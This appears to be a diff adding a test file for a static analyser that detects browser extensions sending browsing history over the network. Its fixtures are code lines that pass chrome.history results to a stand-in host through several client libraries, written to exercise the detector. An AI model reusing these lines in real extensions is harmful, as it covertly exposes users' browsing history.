@@ -1,0 +1,45 @@
+import { expect, test } from 'vitest';
+import { factsOf } from '../testing/examples.ts';
+import { sample } from '../testing/sample.ts';
+import { flowsOf } from './flowsOf.ts';
+
+/** Where the history is sent to, by programs in which a client of a server is told by its use alone. */
+async function receivers(body: string): Promise<readonly (string | undefined)[]> {
+  const background = `((lib, make) => chrome.history.search({ text: '' }, async (rows) => { ${body} }))(...self.load());`;
+  const { flows } = (await factsOf(sample({ background }))).whole(flowsOf);
+  return [...new Set(flows.filter(({ sink }) => sink.kind === 'network').map(({ sink }) => sink.to))];
+}
+
+/** In place of a library that was shortened: nothing is known of what `lib` and `make` are. */
+test.each([
+  [
+    'a path, made with a base',
+    `const api = lib.create({ baseURL: 'https://a.example/v1/' }); api.post('/rows', rows);`,
+  ],
+  ['a whole address', `lib.post('https://a.example/v1/rows', { rows });`],
+  ['a description', `lib({ url: 'https://a.example/v1/rows', method: 'post', data: rows });`],
+  ['a base that is set later', `lib.defaults.baseURL = 'https://a.example/v1'; lib.post('/rows', { rows });`],
+])('tells an address of %s', async (_, body) => {
+  expect(await receivers(body)).toEqual(['https://a.example/v1/rows']);
+});
+
+test.each([
+  ['a query that is put together', `make('https://a.example', 'key').from('rows').insert(rows);`],
+  ['a socket', `const s = make('https://a.example'); s.on('connect', () => s.emit('rows', rows));`],
+  ['a builder', `const hub = new lib.Builder().withUrl('https://a.example').build(); hub.invoke('Rows', rows);`],
+  ['a client that was started', `lib.init('key', { api_host: 'https://a.example' }); lib.capture('rows', { rows });`],
+])('tells the server of %s', async (_, body) => {
+  expect(await receivers(body)).toEqual(['https://a.example']);
+});
+
+test.each([
+  ['an address that is put together', `const u = new URL('https://a.example'); u.searchParams.append('q', rows);`],
+  ['an element', `const a = document.createElement('a'); a.href = 'https://a.example'; a.append(rows);`],
+  ['a message', `chrome.runtime.sendMessage({ url: 'https://a.example', type: 'open', data: rows });`],
+  ['a list', `const list = [{ url: 'https://a.example' }]; list.push(rows);`],
+  ['a map of paths', `const m = new Map(); m.set('https://a.example', rows); m.get('https://a.example');`],
+  ['a panel with a link for help', `const p = make({ help: 'https://a.example' }); p.render(rows); p.setRows(rows);`],
+  ['an answer', `const r = await fetch('https://a.example'); r.push(rows);`],
+])('is not taken in by %s', async (_, body) => {
+  expect(await receivers(body)).toEqual([]);
+});
